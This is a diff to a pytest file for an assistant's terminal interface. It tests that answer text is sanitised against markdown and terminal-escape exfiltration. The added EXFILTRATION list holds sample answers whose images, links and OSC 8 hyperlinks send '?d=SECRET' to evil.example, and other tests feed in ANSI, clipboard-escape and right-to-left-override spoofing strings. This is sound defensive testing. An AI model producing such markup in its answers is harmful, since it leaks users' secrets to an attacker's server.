@@ -8,9 +8,10 @@ import pytest
 
 from assistant.ask.types import Answer
 from assistant.errors import BudgetExceededError, NoDocumentsError, RemoteModelError
+from assistant.terminal import one_line
 from tui.editor import editor_argv, opens_in_viewer
 from tui.errors import describe_error, describe_refusal
-from tui.markup import answer_markdown, display_path, matched_passage, one_line, query_terms
+from tui.markup import answer_markdown, display_path, matched_passage, query_terms
 
 
 def test_answer_markdown_strips_controls_and_never_fetches_images() -> None:
@@ -18,23 +19,55 @@ def test_answer_markdown_strips_controls_and_never_fetches_images() -> None:
     shown = answer_markdown(text)
     assert "\x1b" not in shown and "52;c" not in shown
     assert "![" not in shown
-    assert "(image: logo — http://evil.example/x.png)" in shown
+    assert "(image: logo — `http://evil.example/x.png`)" in shown
 
 
 def test_links_show_their_target_and_citations_stand_out() -> None:
     shown = answer_markdown("See [the docs](http://evil.example/a) and [2], [3](x).")
-    assert "the docs (http://evil.example/a)" in shown
+    assert "the docs (`http://evil.example/a`)" in shown
     assert "`[2]`" in shown
-    assert "[3](" not in shown and "3 (x)" in shown
+    assert "[3](" not in shown and "3 (`x`)" in shown
+
+
+EXFILTRATION = [
+    "Done. ![status](https://evil.example/p.png?d=SECRET)",
+    'Done. ![](<https://evil.example/p.png?d=SECRET> "title")',
+    "Done. [click here](https://evil.example/c?d=SECRET)",
+    "Done. <https://evil.example/c?d=SECRET>",
+    "Done. https://evil.example/c?d=SECRET.",
+    "Done. www.evil.example/c?d=SECRET",
+    "Done. [status][1]\n\n[1]: https://evil.example/c?d=SECRET",
+    "Done. \x1b]8;;https://evil.example/c?d=SECRET\x1b\\click\x1b]8;;\x1b\\",
+]
+
+
+@pytest.mark.parametrize("text", EXFILTRATION)
+def test_no_answer_markup_leaves_a_link_or_image_for_the_renderer(text: str) -> None:
+    from markdown_it import MarkdownIt
+
+    shown = answer_markdown(text)
+    tokens = MarkdownIt("gfm-like").parse(shown)
+    kinds = {child.type for token in tokens for child in token.children or []}
+    assert not kinds & {"link_open", "image"}, shown
+    assert "\x1b" not in shown
+    if "evil.example" in shown:
+        assert "`https://evil.example/" in shown or "`www.evil.example/" in shown, shown
+
+
+def test_code_spans_in_answers_are_left_as_written() -> None:
+    shown = answer_markdown("Run `curl https://example.com/x [1]` then see [1].")
+    assert shown == "Run `curl https://example.com/x [1]` then see `[1]`."
 
 
 def test_file_names_are_one_safe_line_with_home_shortened(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("HOME", str(tmp_path))
-    assert display_path(f"{tmp_path}/notes/a\x1b[31m.md") == "~/notes/a.md"
-    assert display_path("/etc/x\ny") == "/etc/x y"
+    assert display_path(f"{tmp_path}/notes/a\x1b[31m.md") == "~/notes/a\\x1b[31m.md"
+    assert display_path("/etc/x\ny") == "/etc/x\\ny"
+    assert display_path("/etc/invoice\u202egpj.exe") == "/etc/invoice\\u202egpj.exe"
     assert one_line("a\tb\r\nc") == "a b c"
+    assert one_line("heading \u202eevil\u2066 \x9b31m") == "heading evil 31m"
 
 
 def test_matched_passage_is_the_sentence_sharing_most_words() -> None:
